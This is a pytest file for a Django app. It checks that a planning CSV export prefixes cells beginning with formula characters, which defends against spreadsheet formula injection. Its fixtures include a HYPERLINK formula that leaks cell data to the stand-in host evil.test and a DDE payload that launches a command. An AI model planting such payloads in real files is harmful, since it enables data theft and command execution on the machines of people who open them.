"""``GET /planning/export.csv``: no cell can run as a spreadsheet formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from apps.core.spreadsheet import FORMULA_TRIGGERS, neutralize_cell
from tests.conftest import Scenario
from tests.publication.conftest import World, assign, local, make_shift

pytestmark = pytest.mark.django_db

EXPORT = "/api/v1/planning/export.csv"
PAYLOADS = {
    "project": '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    "mission": "+cmd|' /C calc'!A0",
    "venue": "\t=2+3",
    "role": "-2+3@SUM(1+1)",
}


def test_every_cell_that_started_with_a_formula_character_is_neutralized(
    scenario: Scenario, world: World
) -> None:
    plan = world.own
    plan.project.name = PAYLOADS["project"]
    plan.project.save(update_fields=["name"])
    plan.mission.name = PAYLOADS["mission"]
    plan.mission.save(update_fields=["name"])
    plan.venue.name = PAYLOADS["venue"]
    plan.venue.save(update_fields=["name"])
    plan.role.name = PAYLOADS["role"]
    plan.role.save(update_fields=["name"])
    plan.ana.first_name, plan.ana.last_name = "=1+1", "Evil"
    plan.ana.save(update_fields=["first_name", "last_name"])
    plan.bruno.first_name, plan.bruno.last_name = "@SUM(A1)", "Evil"
    plan.bruno.save(update_fields=["first_name", "last_name"])
    shift = make_shift(plan, local(24, 18))
    assign(shift, plan.ana, "accepted")
    assign(shift, plan.bruno, "accepted")
    assign(make_shift(plan, local(25, 18)), plan.chloe, "accepted")

    response = scenario.client("manager").get(EXPORT, {"from": "2026-03-23", "to": "2026-03-29"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 4
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    by_name = {row[3]: row for row in rows[1:]}
    first = by_name["'" + PAYLOADS["project"]]
    assert first[4:7] == ["'" + PAYLOADS[name] for name in ("mission", "venue", "role")]
    artists = sorted(row[7] for row in rows[1:])
    assert "'=1+1 Evil" in artists
    assert "'@SUM(A1) Evil" in artists
    assert "Chloé Clément" in artists, "ordinary names are written as stored"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Olympia", "Olympia"),
        ("a=b", "a=b"),
        (3, 3),
    ],
)
def test_a_cell_is_prefixed_only_when_it_starts_with_a_formula_character(
    value: object, written: object
) -> None:
    assert neutralize_cell(value) == written
